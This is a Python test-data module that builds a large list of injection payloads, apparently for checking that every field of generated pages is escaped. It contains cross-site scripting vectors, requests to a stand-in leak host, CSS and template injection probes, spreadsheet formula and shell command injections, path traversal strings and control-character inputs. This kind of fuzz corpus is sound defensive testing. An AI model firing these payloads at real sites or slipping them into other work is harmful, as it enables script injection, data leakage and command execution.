"""Texts that try to run, to fetch, to reorder or to overflow: for every field of every page."""

# ruff: noqa: E501 - a payload is easier to read whole

from __future__ import annotations

from itertools import product

__all__ = ["MARK", "PAYLOADS"]

#: What a payload calls when it runs, and the host it asks when it gets out.
MARK = "window.__goldassay_ran=1"
HOST = "http://goldassay-leak.invalid"

_RUN = (MARK, f"fetch('{HOST}/x')", f"new Image().src='{HOST}/i'", "alert(1)")
_HTML = (
    "<script>{0}</script>", "</script><script>{0}</script>", "<img src=x onerror=\"{0}\">",
    "<svg onload=\"{0}\">", "<svg><script>{0}</script></svg>", "<body onload=\"{0}\">",
    "<iframe srcdoc=\"<script>{0}</script>\"></iframe>", "<details open ontoggle=\"{0}\">x</details>",
    "<input autofocus onfocus=\"{0}\">", "<video><source onerror=\"{0}\"></video>",
    "<math><mtext><img src=x onerror=\"{0}\"></mtext></math>", "<a href=\"javascript:{0}\">x</a>",
    "<form action=\"javascript:{0}\"><button autofocus>x</button></form>",
    "<object data=\"javascript:{0}\"></object>", "<embed src=\"javascript:{0}\">",
    "<marquee onstart=\"{0}\">x</marquee>", "<svg><animate onbegin=\"{0}\" attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=\"{0}\"></foreignObject></svg>",
    "\"><script>{0}</script>", "'><script>{0}</script>", "\" onmouseover=\"{0}\" x=\"",
    "' onfocus='{0}' autofocus='", "--><script>{0}</script>", "]]><script>{0}</script>",
    "</title><script>{0}</script>", "</style><script>{0}</script>", "</svg><script>{0}</script>",
    "</table><script>{0}</script>", "</textarea><script>{0}</script>",
    "</summary></details><script>{0}</script>", "<template><script>{0}</script></template>",
    "<noscript><p title=\"</noscript><script>{0}</script>\">", "<base href=\"javascript:{0}//\">",
    "<xmp><p title=\"</xmp><script>{0}</script>\">", "<svg><use href=\"data:image/svg+xml,<svg/>\">",
    "<scr<script>ipt>{0}</scr</script>ipt>", "<SCRIPT\x0c>{0}</SCRIPT>", "<svg/onload={0}>",
)  # fmt: skip
_FETCH = (
    f"<link rel=stylesheet href={HOST}/a.css>", f"<meta http-equiv=refresh content=0;url={HOST}>",
    f"<img src={HOST}/a.png>", f"<style>@import url({HOST}/b.css)</style>",
    f"<style>*{{background:url({HOST}/c)}}</style>", f"<p style=background:url({HOST}/d)>x</p>",
    f"<svg><image href={HOST}/e.png></svg>", f"<iframe src={HOST}/f></iframe>",
    f"<video src={HOST}/g autoplay></video>", f"<link rel=preload as=image href={HOST}/h>",
    f"<link rel=prefetch href={HOST}/i>", f"<a ping={HOST}/j href=#>x</a>",
    f"<object data={HOST}/k></object>", f"<embed src={HOST}/l>", f"<track src={HOST}/m>",
    f"<svg><use href={HOST}/n.svg#x></svg>", f"<base href={HOST}/>", f"<audio src={HOST}/o autoplay>",
    f"<input type=image src={HOST}/p>", f"<body background={HOST}/q>",
)  # fmt: skip
_CSS = (
    "</style><style>*{display:none}", "expression(alert(1))", "url(javascript:alert(1))",
    "}*{display:none}", "\\3c script\\3e", "@import 'x';", "behavior:url(x)", "-moz-binding:url(x)",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:alert(1))", f"![x]({HOST}/md.png)", f"<{HOST}>", f"[a]: {HOST}", "`code`",
    "```\n</code></pre><script>alert(1)</script>", "| a | b |", "---", "# heading", "**bold**",
    "<!-- comment -->", "\\", "[x]: data:text/html,<script>alert(1)</script>", "- list", "1. list",
    "> quote", "~~struck~~", "$\\href{javascript:alert(1)}{x}$", "&lt;script&gt;", "&#x3c;script>",
    f"www.goldassay-leak.invalid {HOST} a@goldassay-leak.invalid", "[x]( javascript:alert`1` )", "@everyone",
)  # fmt: skip
_TEMPLATE = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% for x in y %}", "{{constructor.constructor('alert(1)')()}}",
    "{0}", "{value!r}", "%s%n%d", "{{{", "}}}", "$(reboot)", "`id`", "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0",
    "-2+3", "../../../../etc/passwd", "..\\..\\x", "C:\\CON", "/dev/null", "file:///etc/passwd", "%00", "%2e%2e%2f",
)  # fmt: skip
_CONTROL = tuple(f"a{chr(code)}b" for code in range(32)) + tuple(
    f"x{chr(code)}y" for code in (
        0x7F, 0x80, 0x85, 0x9F, 0xAD, 0x200B, 0x200C, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B,
        0x202C, 0x202D, 0x202E, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0xFEFF, 0xFFF9, 0xFFFE,
        0xFFFF, 0xE0001, 0xE0041, 0x10FFFF, 0xD800, 0xDFFF, 0x061C, 0x180E,
    )
)  # fmt: skip
_SHAPE = (
    "", " ", "x" * 300, "W" * 5_000, "x" * 1_000_000, "<" * 2_000, "&" * 2_000, "\u202e" * 500, "é" * 400, "𝔘" * 400,
    "Z\u0351\u0327" * 300, "漢" * 300, "🏳️‍🌈" * 50, "שלום" * 40, "\ufdfd" * 20, "a " * 3_000, "\n" * 500, "\t" * 200,
    "null", "None", "NaN", "undefined", "true", "0", "-1", "1e309", "__proto__", "constructor", "toString",
)  # fmt: skip

#: The same after what closes the place that a text stands in.
_OUT_OF = (
    "\"'>",
    "</code></td></tr></table>",
    "`</li></ul>",
    "</text></svg>",
    "*/</style></script>-->",
    "x\n\n",
)

PAYLOADS: tuple[str, ...] = (
    *(shape.format(run) for shape, run in product(_HTML, _RUN)),
    *_FETCH, *_CSS, *_MARKDOWN, *_TEMPLATE, *_CONTROL, *_SHAPE,
    *(way + shape.format(MARK) for way, shape in product(_OUT_OF, _HTML)),
    *(way + fetch for way, fetch in product(_OUT_OF[:4], _FETCH)),
)  # fmt: skip
